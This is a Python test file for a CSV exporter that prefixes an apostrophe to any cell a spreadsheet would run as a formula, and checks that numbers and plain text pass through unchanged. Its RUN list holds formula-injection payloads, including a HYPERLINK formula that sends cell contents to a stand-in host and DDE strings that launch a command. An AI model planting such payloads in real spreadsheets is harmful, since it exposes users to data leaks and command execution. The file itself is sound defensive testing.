"""CSV that leaves holds no cell that a spreadsheet would run, and nothing else is changed."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from detente._leaving import csv_text

RUN = ['=HYPERLINK("http://e.example"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0",
       "\t=1+1", "\r=1", " =1+1", "\n@x", "=", "＝1+1", "+1-1", "-A1", "--1", "+ 1"]  # fmt: skip
KEPT = [
    "+",
    "-",
    "0",
    "-5",
    "+0.25",
    "-1,234.5",
    "1e-5",
    "-1.5e+3",
    "−3.46 log points",
    "a=b",
    "Free trade",
    "",
    "5%",
    "-5%",
]


@pytest.mark.parametrize("cell", RUN)
def test_a_cell_that_would_run_begins_with_an_apostrophe(cell):
    rows = list(csv.reader(io.StringIO(csv_text(pl.DataFrame({"a": [cell], "b": ["x"]})), newline="")))
    assert rows[1][0] == f"'{cell}"


@pytest.mark.parametrize("cell", KEPT)
def test_words_of_the_schema_and_numbers_stay(cell):
    rows = list(csv.reader(io.StringIO(csv_text(pl.DataFrame({"a": [cell], "b": ["x"]})))))
    assert rows[1][0] == cell


@given(st.lists(st.one_of(st.none(), st.text(max_size=12)), min_size=1, max_size=20))
def test_every_cell_is_itself_or_itself_behind_an_apostrophe(cells):
    text = csv_text(pl.DataFrame({"a": cells, "n": range(len(cells))}, schema={"a": pl.String, "n": pl.Int64}))
    found = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    for cell, written in zip(cells, found, strict=True):
        assert written in (cell or "", f"'{cell}")
        first = written.lstrip()[:1]
        assert first not in ("=", "@") or cell is None


def test_numbers_are_untouched():
    frame = pl.DataFrame({"a": [-1.5, None], "b": [-3, 4], "c": [True, False]})
    assert csv_text(frame) == frame.write_csv()
